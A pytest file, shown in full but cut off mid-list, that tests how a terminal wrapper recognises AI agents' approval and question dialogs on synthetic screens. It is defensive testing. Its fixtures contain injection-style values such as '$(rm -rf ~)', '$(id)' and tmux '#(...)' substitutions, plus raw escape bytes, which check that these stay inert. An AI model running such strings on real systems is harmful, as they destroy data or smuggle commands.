"""The fallback for TUI agents without rules (rules/generic.toml ``tui_*``) on the shapes
dialogs share, drawn as synthetic screens: key hints in any language, a dialog box closed
under its hints with a status line below it, a pointer on a numbered option inside a box
(not a composer), and a pointer list with neither numbers nor hints. And what is none: a
boxed composer, an overlay whose "options" are rules, a one-entry completion menu between
the composer's rules above a two-row footer. The real agents' figures are
tests/corpus/test_fallback.py's.
"""

from __future__ import annotations

import time
from pathlib import Path

import pytest

from osc7501wrap import rules
from osc7501wrap.rules import dialog
from osc7501wrap.screen.pyte_fixes import char_width


@pytest.fixture(scope="module")
def _generic() -> rules.Manifest:
    m = rules.load_manifests(user_dir=None).get("generic")
    assert m is not None
    return m


@pytest.fixture
def generic(_generic: rules.Manifest) -> rules.Manifest:
    """The generic manifest, loaded once, with no strikes from earlier tests: each test reads
    its screens with every rule on (a rule over its CPU budget a few times on a loaded
    machine would otherwise stay switched off for the tests after it)."""
    _generic.health.off.clear()
    _generic.health.strikes.clear()
    return _generic


def read(manifest: rules.Manifest, rows: list[str]) -> rules.Verdict:
    lines = rows + [""] * (30 - len(rows))
    return rules.evaluate(manifest, rules.Snapshot(lines=lines, cursor=(len(rows) - 1, 0)))


BOX_TOP = "  ╭" + "─" * 60 + "╮"
BOX_END = "  ╰" + "─" * 60 + "╯"


def boxed(*rows: str) -> list[str]:
    return [BOX_TOP, *(f"  │ {r:<58} │" for r in rows), BOX_END]


QUESTION_ZH = boxed("Which color do you prefer?", "", "❯ 1. Red", "  2. Blue", "",
                    "↑/↓: 导航 | Enter: 选择 | Esc: 取消", "")


def test_hints_in_another_language_under_a_closed_box_with_a_status_line(
        generic: rules.Manifest) -> None:
    v = read(generic, ["  > ask me a question", "", *QUESTION_ZH, "", "  ⠏ 等待用户确认..."])
    assert (v.state, v.kind, v.rule_id) == ("blocked", "question", "tui_question_list")
    assert v.dialog is not None
    assert [o.label for o in v.dialog.options] == ["Red", "Blue"]
    assert v.dialog.options[0].selected


def test_a_pointer_on_a_numbered_option_in_a_box_is_not_a_composer(
        generic: rules.Manifest) -> None:
    rows = boxed("Do you want to run this command?", "", "❯ 1. Yes",
                 "  2. No, and tell it what to do differently (Esc to stop)", "",
                 "↑/↓ to navigate · enter to select · esc to cancel")
    v = read(generic, rows)
    assert (v.state, v.kind, v.rule_id) == ("blocked", "permission", "tui_dialog_list")
    # the same box with a composer's prompt glyph and text in it is the composer
    composer = read(generic, boxed("❯ 1. do this first, then that"))
    assert composer.state != "blocked"
    idle = read(generic, boxed("❯ Ask me anything"))
    assert (idle.state, idle.rule_id) == ("idle", "tui_composer")


def test_numbered_options_with_a_marker_under_a_closed_box_and_a_spinner(
        generic: rules.Manifest) -> None:
    rows = boxed("Allow execution of: 'mkdir'?", "", "› 1. Yes, allow once",
                 "  2. No, suggest changes (esc)", "")
    v = read(generic, [*rows, "", "  ⠏ Waiting for user confirmation..."])
    assert (v.state, v.kind, v.rule_id) == ("blocked", "permission", "tui_dialog_marked")


def test_a_pointer_list_without_numbers_or_hints(generic: rules.Manifest) -> None:
    rows = [" Agent is asking a question", "", " Which color do you prefer?", "",
            "  > Red", "    Blue", "    Type a response...", "", "",
            " model ██████ (100) $0.00", " work", " Some mode (Shift+Tab)"]
    v = read(generic, rows)
    assert (v.state, v.kind, v.rule_id) == ("blocked", "question", "tui_question_pointer")
    assert v.dialog is not None
    assert [o.label for o in v.dialog.options] == ["Red", "Blue", "Type a response..."]
    # the selection moved down: still the same dialog
    moved = read(generic, [r.replace("  > Red", "    Red").replace("    Blue", "  > Blue")
                           for r in rows])
    assert moved.state == "blocked" and moved.dialog is not None
    assert moved.dialog.id == v.dialog.id
    assert [o.selected for o in moved.dialog.options] == [False, True, False]
    # options that approve or decline: a permission
    perm = read(generic, [" Run this command?", "  > Yes", "    No"])
    assert (perm.state, perm.kind) == ("blocked", "permission")


@pytest.mark.parametrize("rows", [
    # an overlay: a link ending in "?", a rule, a one-entry button between rules
    ["   Try the plan", "   https://example.com/dashboard/subscription?",
     "      ────                            ────", "      ❯ Wh   Open it",
     "      ────                            ────", "   Press Enter to open, any other key to close",
     "    gpt", "    work"],
    # a one-entry completion menu between the composer's rules, a footer of two rows
    ["[Extensions]", "  truth.js", "", "─" * 60, "→ Yes  enter select", "─" * 60,
     "/tmp/work", "0.0%/128k (auto)"],
    # the conversation: a question answered, then the user's next prompt
    ["  Which one do you want?", "", "  > the first one", "", "─" * 60, "❯ ", "─" * 60],
    # a quoted reply with a #(...) and a $(...) in it: inert text
    ["  Shall I run $(rm -rf ~)?", "  > #(touch /tmp/x) %H", "    #{pane_id}", "─" * 60,
     "❯ ", "─" * 60],
], ids=["overlay", "completion", "answered", "inert"])
def test_what_is_no_dialog(generic: rules.Manifest, rows: list[str]) -> None:
    v = read(generic, rows)
    assert v.state != "blocked", (v.rule_id, rows)


# ------------------------------------------------ long and multi-line command approvals

FOOTER = [" model ██████ (100) $0.00", " work", " Some mode (Shift+Tab)"]
KEYS = "  [y] Approve   [n] Deny"


def tall_approval(command: list[str]) -> list[str]:
    """An approval whose command runs over many rows: the question at its top, the keys
    at its bottom, then a blank row and a footer."""
    return [" Agent needs permission", " Approve tool call?", " run_commands",
            f"   $ {command[0]}", *(f" {c}" for c in command[1:]), "", KEYS, "", *FOOTER]


def test_an_approval_taller_than_the_bottom_rows_is_a_permission_with_the_whole_command(
        generic: rules.Manifest) -> None:
    command = [f"touch f{i:02d}.txt" for i in range(14)]
    v = read(generic, [" ❯ make many files", "", *tall_approval(command)])
    assert (v.state, v.kind, v.rule_id) == ("blocked", "permission", "tui_dialog_keys")
    assert v.msg == "Approve tool call: touch f00.txt"
    assert v.dialog is not None
    assert [o.label for o in v.dialog.options] == ["Approve", "Deny"]
    # every row between the question and the keys: the tool, the whole command
    assert list(v.dialog.subject) == ["run_commands", f"  $ {command[0]}", *command[1:]]
    assert not v.dialog.partial
    # one character more in the last row of the command: another dialog
    other = read(generic, [" ❯ make many files", "",
                           *tall_approval([*command[:-1], command[-1] + "x"])])
    assert other.dialog is not None and other.dialog.id != v.dialog.id


def test_an_approval_whose_question_is_past_the_screens_top(generic: rules.Manifest) -> None:
    # the command fills the screen: its "$ " row and the question above it are gone
    rows = [f" touch f{i:02d}.txt" for i in range(30, 56)] + ["", KEYS, "", *FOOTER]
    v = read(generic, rows)
    assert (v.state, v.kind, v.rule_id) == ("blocked", "permission", "tui_dialog_keys")
    # what is on screen of the command is its subject, which is not all of it
    assert v.dialog is not None and v.dialog.partial
    assert list(v.dialog.subject) == [f"touch f{i:02d}.txt" for i in range(30, 56)]
    # keys that neither approve nor decline, without a question: no dialog
    rows = [f" row {i}" for i in range(20)] + ["", "  [a] Apples   [b] Pears", "", *FOOTER]
    assert read(generic, rows).state != "blocked"


def test_a_multi_line_command_in_a_numbered_approval_is_its_subject(
        generic: rules.Manifest) -> None:
    rows = ["  Would you like to run the following command?", "", "  Reason: tidy up?", "",
            "  $ ls -la", "  touch x1.txt", "  rm -f \"$(cat list)\" #(x)", "",
            "› 1. Yes, proceed (y)", "  2. No, and say what to do differently (esc)", "",
            "  Press enter to confirm or esc to cancel"]
    v = read(generic, rows)
    assert (v.state, v.kind, v.rule_id) == ("blocked", "permission", "tui_dialog_list")
    assert v.msg == "Would you like to run the following command: ls -la"
    assert v.dialog is not None
    # every row between the question and the first option: the whole command
    assert list(v.dialog.subject) == ["$ ls -la", "touch x1.txt", "rm -f \"$(cat list)\" #(x)"]
    assert not v.dialog.partial
    # the same question about another command: another dialog, another message
    other = read(generic, [r.replace("$ ls -la", "$ echo hi") for r in rows])
    assert other.dialog is not None and other.dialog.id != v.dialog.id
    assert other.msg != v.msg


COMPOSER = ["─" * 60, "❯ Ask anything...", "─" * 60]


@pytest.mark.parametrize("rows", [
    # a dialog quoted in an answer, the composer drawn below it
    [" * Agent asked:", "   Approve tool call?", "   [y] Approve   [n] Deny",
     "   Nothing is waiting now.", *COMPOSER, *FOOTER],
    # the same text typed into the composer
    ["   What can I do for you?", "─" * 60, "❯ Approve tool call? [y] Approve   [n] Deny",
     "─" * 60, *FOOTER],
    # a running turn over the composer: an indented command, an interrupt hint, a footer
    # naming one key ("(Tab)"): no list
    [" * run_commands(echo", "   AAAA && touch long-1.txt)", "   ⎿", "   AAAA",
     " ⠋ Thinking... (esc to cancel)", *COMPOSER,
     " model ██████ (100) $0.00                   ○ Plan ● Act (Tab)", " work",
     " Some mode (Shift+Tab)"],
    # a numbered dialog quoted in an answer, then the composer and a footer whose last
    # row names one key ("← for agents"): the quoted hints are not the live dialog's
    ["• The dialog said:", "      Would you like to run the following command?",
     "      › 1. Yes, proceed (y)", "      Press enter to confirm or esc to cancel",
     "  Nothing is waiting now.", "› Ask anything", "  model · /tmp/work",
     "  ← for agents · ? for shortcuts"],
    # a numbered dialog quoted in an answer, then the agent's exit summary, whose last rows
    # count tokens with arrows ("↑ 100 • ↓ 53"): arrows before numbers are no key hints
    [" ● The dialog said:", "   Do you want to run this command?", "   ❯ 1. Yes",
     "     2. No, and say what to do differently (Esc to stop)",
     "   ↑/↓ to navigate · enter to select · esc to cancel", "   Nothing is waiting now.",
     " Changes    +0 -0", " Duration   12s", " Tokens     ↑ 100 • ↓ 53",
     " Resume     agent --resume=c4a8"],
], ids=["quoted-keys", "typed-keys", "running-turn", "quoted-list", "quoted-list-summary"])
def test_quoted_options_are_no_live_dialog(generic: rules.Manifest, rows: list[str]) -> None:
    v = read(generic, rows)
    assert v.state != "blocked", (v.rule_id, rows)


def test_a_tui_list_under_an_answer_bullet_is_no_select_prompt(
        generic: rules.Manifest) -> None:
    rows = ["  > make the output directory", "  ◆ I will create the directory.",
            "  ? Shell mkdir -p out (Make the output directory)", "     mkdir -p out",
            "   Allow execution of: 'mkdir'?", "   › 1. Yes, allow once",
            "     2. No, suggest changes (esc)", "  ⠏ Waiting for user confirmation..."]
    v = read(generic, rows)
    assert (v.state, v.kind, v.rule_id) == ("blocked", "permission", "tui_dialog_marked")
    # a select prompt of a line-mode program is still one
    v = read(generic, ["◆  Pick a colour", "│  ● Red", "│  ○ Blue", "└"])
    assert (v.state, v.rule_id) == ("blocked", "select_prompt")


def test_a_diamond_row_is_a_select_prompt_only_in_its_frame(generic: rules.Manifest) -> None:
    # a status block's "◆ Model:" row under a spinner is no question
    for rows in (["  ⠹ Thinking… (3s)", "  ◆ Model: gpt-4o", "  ◆ Tokens: 1,204"],
                 ["◆ Model: gpt-4o", "", "> "]):
        v = read(generic, rows)
        assert v.state != "blocked", (v.rule_id, rows)
    # clack's prompts: the "◆" question, its "│" rows, the closing "└"; a permission when
    # the question asks to act or a choice asks leave
    for rows, rule in ((["┌  create-app", "│", "◆  Project name?", "│  my-app█", "└"],
                        "select_prompt"),
                       (["◆  Continue?", "│  ● Yes / ○ No", "└"], "select_prompt"),
                       (["◆  Run rm -rf build?", "│  ● Yes / ○ No", "└"], "select_permission"),
                       (["◆  Bash wants to run ls", "│  ● Allow once", "│  ○ Deny", "└"],
                        "select_permission")):
        v = read(generic, rows)
        assert (v.state, v.rule_id) == ("blocked", rule), rows


def test_hints_in_a_box_closed_by_a_rule_over_a_footer(generic: rules.Manifest) -> None:
    rows = [" Removing the build directory.", " $ rm -rf build", "─" * 60,
            " Dangerous command:", "   rm -rf build && echo removed", " Allow?", " → Yes",
            "   No", " ↑↓ navigate  enter select  escape/ctrl+c cancel", "─" * 60,
            "/tmp/work", "↑100 ↓7 0.1%/128k (auto)                         model"]
    v = read(generic, rows)
    assert (v.state, v.kind, v.rule_id) == ("blocked", "permission", "tui_dialog_list")
    # what it asks about is the dialog's own rows under the rule, not the transcript's
    # "$ " row above the dialog
    assert v.dialog is not None and not v.dialog.partial
    assert [r.strip() for r in v.dialog.subject] == ["Dangerous command:",
                                                     "rm -rf build && echo removed"]


# ------------------------------------ options that carry their keys; boxed lists; a cursor

SPINNER = " ⣿⣿⣿  ( 4s • esc to interrupt )"
STATUS = "  /tmp/work                                        ◉ Some CLI"


def keyed_box(command: str) -> list[str]:
    """A permission drawn in the composer's place: each option carries its key, no key
    hint row, a spinner above the box still counting, a status line under it."""
    return boxed("", "Bash(x)", "", f"⎿ Will run: {command}", "", "Would you like to go on?",
                 "", "> Go on (tab)", "  Go on, don't ask again (shift+tab)",
                 "  No, and say what to do instead (esc)", "")


def test_options_that_carry_their_keys_are_a_dialog_without_a_hints_row(
        generic: rules.Manifest) -> None:
    v = read(generic, [" ● make the output directory", SPINNER,
                       *keyed_box("mkdir -p out && echo $(id) > '#{x}'"), STATUS])
    assert (v.state, v.kind, v.rule_id) == ("blocked", "permission", "tui_dialog_keyed")
    assert v.msg == "Would you like to go on?"
    d = v.dialog
    assert d is not None
    assert [(o.label, o.key, o.selected) for o in d.options] == [
        ("Go on", "tab", True), ("Go on, don't ask again", "shift+tab", False),
        ("No, and say what to do instead", "esc", False)]
    # the keys the screen shows are the ones typed
    assert [dialog.keys_for(d, o) for o in d.options] == [["\t"], ["\x1b[Z"], ["\x1b"]]
    # what it would run is its subject, whole
    assert list(d.subject) == ["Bash(x)", "", "⎿ Will run: mkdir -p out && echo $(id) > '#{x}'"]
    assert not d.partial
    other = read(generic, [SPINNER, *keyed_box("mkdir -p out2"), STATUS])
    assert other.dialog is not None and other.dialog.id != d.id


def test_a_command_cut_short_in_a_keyed_dialog_is_partial(generic: rules.Manifest) -> None:
    v = read(generic, [SPINNER, *keyed_box("touch f00.txt touch f01.txt touc..."), STATUS])
    assert v.state == "blocked" and v.dialog is not None and v.dialog.partial
    # its box's top past the screen's: partial too
    tall = keyed_box("ls")[1:]
    v = read(generic, [*tall, STATUS])
    assert v.state == "blocked" and v.dialog is not None and v.dialog.partial


def test_options_with_their_keys_in_brackets_that_neither_approve_nor_decline(
        generic: rules.Manifest) -> None:
    # in a box: the pointer row is the selection, not a composer's prompt
    v = read(generic, [*boxed("Which model should answer?", "", "> Fast one [f]",
                              "  Smart one [s]"), " footer"])
    assert (v.state, v.kind, v.rule_id) == ("blocked", "question", "tui_question_keyed")
    assert v.dialog is not None
    assert [(o.label, o.key) for o in v.dialog.options] == [("Fast one", "f"),
                                                             ("Smart one", "s")]
    assert [dialog.keys_for(v.dialog, o) for o in v.dialog.options] == [["f"], ["s"]]


@pytest.mark.parametrize("rows", [
    # one row with a key at its end: a composer's typed text, a footer
    [*boxed("> run the tests (esc)"), " mode (shift+tab)"],
    # keyed options quoted in the conversation, the composer drawn below them
    ["  Would you like to go on?", "  > Go on (tab)", "    No (esc)", "",
     *boxed("● ▋Ask anything"), STATUS],
], ids=["one-row", "quoted"])
def test_keys_at_the_end_of_rows_that_are_no_dialog(generic: rules.Manifest,
                                                    rows: list[str]) -> None:
    v = read(generic, rows)
    assert v.state != "blocked", (v.rule_id, rows)


def test_a_pointer_among_sibling_rows_under_a_question_in_a_box_is_a_selection(
        generic: rules.Manifest) -> None:
    rows = boxed("", "? Which color do you prefer?", "", "  ❯ Red", "    Blue",
                 "    (or start typing)", "", "↑/↓ navigate, Enter select", "")
    v = read(generic, [SPINNER, *rows, STATUS])
    assert (v.state, v.kind, v.rule_id) == ("blocked", "question", "tui_question_boxed")
    assert v.dialog is not None
    assert [(o.label, o.selected) for o in v.dialog.options] == [
        ("Red", True), ("Blue", False), ("(or start typing)", False)]
    # a composer whose typed text wraps under its prompt glyph, hints in a footer: no
    # question above it in its box, so it is the composer
    composer = read(generic, [" Is it done?", *boxed("❯ make it blue and then",
                                                     "    stop: enter select"),
                              " ↑/↓ navigate, Enter select"])
    assert composer.state != "blocked", composer.rule_id


def test_a_placeholder_composer_with_a_block_cursor_reads_idle(
        generic: rules.Manifest) -> None:
    v = read(generic, [" ● done.", *boxed("● ▋Ask anything, @ for context"), STATUS])
    assert (v.state, v.rule_id) == ("idle", "tui_composer_cursor")
    assert read(generic, [*boxed("█"), STATUS]).state == "idle"
    # a spinner over it: working
    v = read(generic, [SPINNER, *boxed("● ▋Ask anything, @ for context"), STATUS])
    assert v.state == "working"
    # a progress bar in a box is no composer
    assert read(generic, [*boxed("██████████░░░░ 50%"), STATUS]).state != "idle"


# ------------------- arrow-glyph hints, [1]-numbered options, an empty input area

def titled_box(title: str, *rows: str) -> list[str]:
    """A dialog box whose title is drawn in its top rule ("╭─ approval ───╮")."""
    return ["╭─ " + title + " " + "─" * (58 - len(title)) + "╮",
            *(f"│ {r:<59}│" for r in rows), "╰" + "─" * 61 + "╯"]


INPUT_AREA = ["── input " + "─" * 52, "", "", "", "─" * 61]
STATUS_ROWS = ["agent (model ○)  /tmp/work  ctrl-x: toggle mode", "      context: 0.1%"]
APPROVE_OPTIONS = ["→ [1] Approve once", "  [2] Approve for this session", "  [3] Reject",
                   "  [4] Reject, tell the model what to do instead"]
GLYPH_HINTS = "  ▲/▼ select  1/2/3/4 choose  ↵ confirm"


def approval(*command: str) -> list[str]:
    """A permission box over the input area, under the tool's spinner line."""
    return ["✨ make the output directory", "", "⠦ Using Shell (mkdir -p out)",
            *titled_box("approval", " Shell is requesting approval to run command:", "",
                        *(f" {c}" for c in command), "", *APPROVE_OPTIONS, "", GLYPH_HINTS),
            "─" * 61, *STATUS_ROWS]


def test_hints_written_with_arrow_glyphs_over_bracket_numbered_options(
        generic: rules.Manifest) -> None:
    v = read(generic, approval("mkdir -p out && echo $(id) > '#{x}' %H"))
    assert (v.state, v.kind, v.rule_id) == ("blocked", "permission", "tui_dialog_list")
    d = v.dialog
    assert d is not None
    assert [(o.number, o.label, o.selected) for o in d.options] == [
        (1, "Approve once", True), (2, "Approve for this session", False),
        (3, "Reject", False), (4, "Reject, tell the model what to do instead", False)]
    # chosen with the arrows and Enter the hints name
    assert dialog.keys_for(d, d.options[0]) == ["\r"]
    assert dialog.keys_for(d, d.options[2]) == ["\x1b[B", "\x1b[B", "\r"]
    # the pointer moved down: still the same dialog
    moved = read(generic, [r.replace("→ [1]", "  [1]").replace("  [2]", "→ [2]")
                           for r in approval("mkdir -p out && echo $(id) > '#{x}' %H")])
    assert moved.dialog is not None and moved.dialog.id == d.id
    assert [o.selected for o in moved.dialog.options] == [False, True, False, False]
    # what it would run is its subject, whole, as inert text
    assert list(d.subject) == ["mkdir -p out && echo $(id) > '#{x}' %H"]
    assert not d.partial
    other = read(generic, approval("mkdir -p out2"))
    assert other.dialog is not None and other.dialog.id != d.id


def test_a_command_cut_with_a_truncated_row_is_partial(generic: rules.Manifest) -> None:
    v = read(generic, approval("touch f00.txt", "touch f01.txt",
                               "... (truncated, ctrl-e to expand)"))
    assert (v.state, v.kind) == ("blocked", "permission")
    # what a person approves is exactly what runs: `answer` refuses a partial subject
    assert v.dialog is not None and v.dialog.partial
    assert list(v.dialog.subject)[:2] == ["touch f00.txt", "touch f01.txt"]


@pytest.mark.parametrize("hints", ["⏎ choose  q quit", "↵ confirm · tab next",
                                   "▲▼ navigate   ↵ submit"])
def test_other_arrow_glyph_hints(generic: rules.Manifest, hints: str) -> None:
    rows = ["Which color do you prefer?", "", "❯ 1. Red", "  2. Blue", "", hints]
    v = read(generic, rows)
    assert (v.state, v.kind, v.rule_id) == ("blocked", "question", "tui_question_list")


@pytest.mark.parametrize("options", [
    ["→ [1] Red", "  [2] Blue", "  [3] Other"],
    ["▸ (1) Red", "  (2) Blue", "  (3) Other"],
    ["❯ [1] Red", "  [2] Blue"],
    ["● 1) Red", "  2) Blue"],
], ids=["brackets-arrow", "parens-triangle", "brackets-chevron", "parenthesis-dot"])
def test_numbered_options_in_a_titled_box_without_hints(generic: rules.Manifest,
                                                        options: list[str]) -> None:
    rows = ["⠹ Using AskUserQuestion", *titled_box("question", "? Which color do you prefer?",
                                                  "", *options), "─" * 61, *STATUS_ROWS]
    v = read(generic, rows)
    assert (v.state, v.kind, v.rule_id) == ("blocked", "question", "tui_question_marked")
    assert v.dialog is not None
    assert [o.label for o in v.dialog.options] == ["Red", "Blue", "Other"][:len(options)]
    assert v.dialog.options[0].selected


def test_an_empty_input_area_between_rules_reads_idle(generic: rules.Manifest) -> None:
    v = read(generic, ["✨ what is two plus two", "• Two plus two is four.", "",
                       *INPUT_AREA, *STATUS_ROWS])
    assert (v.state, v.rule_id) == ("idle", "tui_composer_empty")
    # a plain rule over it too
    assert read(generic, ["• done", "─" * 61, "", "", "─" * 61, *STATUS_ROWS]).state == "idle"
    # a quartered circle before a word is a footer's setting, no spinner
    v = read(generic, ["• done", *INPUT_AREA, "◐ medium · /effort", *STATUS_ROWS[1:]])
    assert (v.state, v.rule_id) == ("idle", "tui_composer_empty")


@pytest.mark.parametrize("spinner", ["🌑", "🌔", "🕐", "◐", "⠴ Composing... 3s · 55 tokens",
                                     "◓", "🕐 Working 12s"])
def test_a_spinner_over_the_empty_input_area_reads_working(generic: rules.Manifest,
                                                           spinner: str) -> None:
    v = read(generic, ["✨ make the output directory", spinner, *INPUT_AREA, *STATUS_ROWS])
    assert (v.state, v.rule_id) == ("working", "tui_working")


@pytest.mark.parametrize("rows", [
    # bracket-numbered options quoted in an answer, the empty input area drawn below them
    ["• The dialog said:", "  ? Which color do you prefer?", "  → [1] Red", "    [2] Blue",
     "    [3] Other", *INPUT_AREA, *STATUS_ROWS],
    # the same list with arrow-glyph hints quoted above it
    ["• The dialog said:", "  Run it?", "  → [1] Approve once", "    [2] Reject",
     "  ▲/▼ select  ↵ confirm", *INPUT_AREA, *STATUS_ROWS],
    # a composer in a box whose typed text starts with a bracketed number
    [*boxed("❯ [1]st do this, then that"), " footer"],
], ids=["quoted-brackets", "quoted-hints", "typed"])
def test_bracket_numbered_text_that_is_no_dialog(generic: rules.Manifest,
                                                 rows: list[str]) -> None:
    v = read(generic, rows)
    assert v.state != "blocked", (v.rule_id, rows)


def test_rows_between_rules_that_are_no_empty_input_area(generic: rules.Manifest) -> None:
    # text between the rules, or more than three rows under them: not this shape
    assert read(generic, ["─" * 61, "  some output", "─" * 61, *STATUS_ROWS]).state != "idle"
    assert read(generic, [*INPUT_AREA, "a", "b", "c", "d"]).state != "idle"


# ------------------------------------------------ a dialog drawn above a still composer

def square_box(*rows: str) -> list[str]:
    return ["┌" + "─" * 62 + "┐", *(f"│{r:<62}│" for r in rows), "└" + "─" * 62 + "┘"]


COMPOSER = [*square_box(" > "), " manual  /tmp/work                     model",
            "                          Context: 0% / Tokens: 0"]
ABOVE_OPTIONS = ["   › 1. Approve (y)", "     2. Enable Auto for this thread (a)",
                 "     3. Reject (n)"]
ABOVE_HINTS = " ↑/↓ navigate • Enter select • y/a/n quick keys • Esc reject"


def above(*command: str, options: list[str] = ABOVE_OPTIONS,
          status: str = " ⏸ Awaiting decision...  (paused at 4s)") -> list[str]:
    """An approval box drawn above the composer, which stays drawn, empty, under it."""
    return ["▎> make the output directory", "", " I will create the directory.", "",
            *square_box(" >>> Shell Requires Approval <<<", *(f"  {c}" for c in command),
                        "", " Working Directory: /tmp/work", *options, ABOVE_HINTS),
            "", status, "", "", "", *COMPOSER]


def test_a_dialog_box_above_a_still_composer(generic: rules.Manifest) -> None:
    v = read(generic, above("mkdir -p out && echo $(id) > '#{x}' %H"))
    assert (v.state, v.kind, v.rule_id) == ("blocked", "permission", "tui_dialog_above")
    d = v.dialog
    assert d is not None
    # each option's key as the screen shows it, which chooses it
    assert [(o.number, o.label, o.selected, o.key) for o in d.options] == [
        (1, "Approve", True, "y"), (2, "Enable Auto for this thread", False, "a"),
        (3, "Reject", False, "n")]
    assert dialog.keys_for(d, d.options[2]) == ["n"]
    # what it would run is in its subject, whole, as inert text
    assert "mkdir -p out && echo $(id) > '#{x}' %H" in [s.strip() for s in d.subject]
    assert not d.partial
    other = read(generic, above("mkdir -p out2"))
    assert other.dialog is not None and other.dialog.id != d.id
    # no status row between the box and the composer: the same dialog
    assert read(generic, above("mkdir -p out", status="")).rule_id == "tui_dialog_above"


def test_a_command_cut_with_an_ellipsis_above_a_composer_is_partial(
        generic: rules.Manifest) -> None:
    v = read(generic, above("echo", "AAAA… (press 'e' to expand)"))
    assert (v.state, v.kind) == ("blocked", "permission")
    assert v.dialog is not None and v.dialog.partial


def test_a_question_box_with_bulleted_options_above_a_composer(
        generic: rules.Manifest) -> None:
    rows = ["▎> ask me a question", "", *square_box(
        " › Agent has a question for you", "", "    Which color do you prefer? (required)",
        "", "   › Red", "   • Blue", "   • Other (type your answer)", "", "",
        " ↑/↓ move • Enter to continue • Ctrl+J newline • Esc to cancel"),
        "", "", *COMPOSER]
    v = read(generic, rows)
    assert (v.state, v.kind, v.rule_id) == ("blocked", "question", "tui_question_above")
    d = v.dialog
    assert d is not None
    assert d.question == "Which color do you prefer? (required)"
    assert [(o.label, o.selected) for o in d.options] == [
        ("Red", True), ("Blue", False), ("Other (type your answer)", False)]


@pytest.mark.parametrize("rows", [
    # the approval quoted in the conversation, no box of its own, the composer under it
    [" Deep Agents asked:", "   >>> Shell Requires Approval <<<", "    rm -rf build",
     "     › 1. Approve (y)", "       2. Enable Auto for this thread (a)",
     "       3. Reject (n)", "   ↑/↓ navigate • Enter select • Esc reject",
     " Nothing is waiting now.", *COMPOSER],
    # the same quoted in a box, its hints not right above the box's edge
    [*square_box(" Deep Agents asked:", "   › 1. Approve (y)", "     2. Reject (n)",
                 " ↑/↓ navigate • Enter select • Esc reject", " Nothing is waiting now."),
     *COMPOSER],
    # a box of sibling rows with no pointer on any, hints under them
    [*square_box("    1. Approve (y)", "    2. Reject (n)",
                 " ↑/↓ navigate • Enter select • Esc reject"), *COMPOSER],
    # the dialog's text typed into the composer
    [*square_box(" > >>> Shell Requires Approval <<< 1. Approve (y) 3. Reject (n) (Enter "
                 "select • Esc reject)"), " manual  /tmp/work"],
    # a box above the composer with two status rows between: a running turn's output
    [*square_box("   › 1. Approve (y)", "     2. Reject (n)",
                 " ↑/↓ navigate • Enter select • Esc reject"), " ⠦ Thinking...", "",
     " Here is what I found.", *COMPOSER],
], ids=["quoted", "quoted-in-a-box", "no-pointer", "typed", "output-between"])
def test_options_above_a_composer_that_are_no_dialog(generic: rules.Manifest,
                                                     rows: list[str]) -> None:
    v = read(generic, rows)
    assert v.state != "blocked", (v.rule_id, rows)


def test_an_approval_whose_options_are_below_the_screen_is_no_dialog(
        generic: rules.Manifest) -> None:
    # a tall command fills the box down to the composer, its heading past the screen's
    # top: no question, no option, no hints on screen
    rows = [*square_box(" >>> Shell Requires Approval <<<",
                        *(f" touch f{i:02}.txt" for i in range(20)))[:-1], *COMPOSER]
    assert read(generic, rows[2:]).state != "blocked"


INPUT_BOX = ["   ▊" + "▔" * 60 + "▎", "   ▊  Type your input..." + " " * 38 + "▎",
             "   ▊" + "▁" * 60 + "▎", " " * 62 + "▇▇", " ^q Quit  ^y YOLO mode  f1 Help"]
HINTS = "  Enter  to submit,  Ctrl+T  to switch to multi-line input,  Tab  to switch focus"


def confirm(*command: str, ask: str = "Press ENTER to confirm or provide rejection reason",
            box: list[str] = INPUT_BOX) -> list[str]:
    return [" ⭘        Step 2/2 - AWAITING_INPUT", "    THOUGHT: I will run it.", "",
            "    ```bash", *(f"    {c}" for c in command), "    ```", "", f"    {ask}", HINTS,
            *box]


def test_a_confirmation_asked_in_an_input_area_is_a_permission(
        generic: rules.Manifest) -> None:
    v = read(generic, confirm("mkdir -p out && echo $(id) > '#{x}' %H \x1b]0;t\x07"))
    assert (v.state, v.kind, v.rule_id) == ("blocked", "permission", "tui_dialog_confirm")
    d = v.dialog
    assert d is not None
    assert d.question.startswith("Press ENTER to confirm or provide rejection reason")
    # what it would run is its subject, whole, inert; another command is another dialog
    assert len(d.subject) == 1 and "\x1b" not in d.subject[0] and "\x07" not in d.subject[0]
    assert d.subject[0].startswith("mkdir -p out && echo $(id) > '#{x}' %H")
    assert not d.partial
    other = read(generic, confirm("mkdir -p out2"))
    assert other.dialog is not None and other.dialog.id != d.id
    # Enter confirms; a reason typed and entered rejects
    assert [(o.label, o.key) for o in d.options] == [("confirm", "enter"), ("reject", "no")]
    assert dialog.keys_for(d, d.options[0]) == ["\r"]
    assert dialog.keys_for(d, d.options[1]) == ["no", "\r"]
    # a command of several rows is the subject row by row
    tall = read(generic, confirm("echo", "AAAA && touch x1.txt"))
    assert tall.dialog is not None and [s.strip() for s in tall.dialog.subject] == [
        "echo", "AAAA && touch x1.txt"]


def test_a_confirmation_whose_reject_key_is_named(generic: rules.Manifest) -> None:
    v = read(generic, confirm("rm -rf build", ask="Enter to approve, Esc to reject"))
    assert (v.state, v.rule_id) == ("blocked", "tui_dialog_confirm")
    assert v.dialog is not None
    assert [(o.label, o.key) for o in v.dialog.options] == [("confirm", "enter"),
                                                          ("reject", "esc")]
    assert dialog.keys_for(v.dialog, v.dialog.options[1]) == ["\x1b"]


def test_a_confirmation_whose_command_starts_past_the_screens_top_is_partial(
        generic: rules.Manifest) -> None:
    rows = confirm(*(f"touch f{i:02}.txt" for i in range(40)))[5:]
    v = read(generic, rows)
    assert (v.state, v.rule_id) == ("blocked", "tui_dialog_confirm")
    assert v.dialog is not None and v.dialog.partial


@pytest.mark.parametrize("rows", [
    # the same input under the words of a finished turn: the composer, idle
    confirm("echo COMPLETE_TASK_AND_SUBMIT_FINAL_OUTPUT",
            ask="Agent wants to finish. Type a comment to give it a new task or press "
                "enter to quit."),
    # the confirmation quoted in the conversation, other rows between it and the input
    ["    THOUGHT: it asked:", "        Press ENTER to confirm or provide rejection reason",
     HINTS, "    Nothing is waiting now.", "    Agent wants to finish. Type a comment.",
     HINTS, *INPUT_BOX],
    # typed into the input
    ["    Agent wants to finish.", HINTS, INPUT_BOX[0],
     "   ▊  Press ENTER to confirm or provide rejection reason ▎", *INPUT_BOX[2:]],
    # an answer above a composer between rules with its prompt glyph
    ["⏺ Press Enter to confirm or Esc to reject.", "─" * 60, "❯ ", "─" * 60, "  ? for help"],
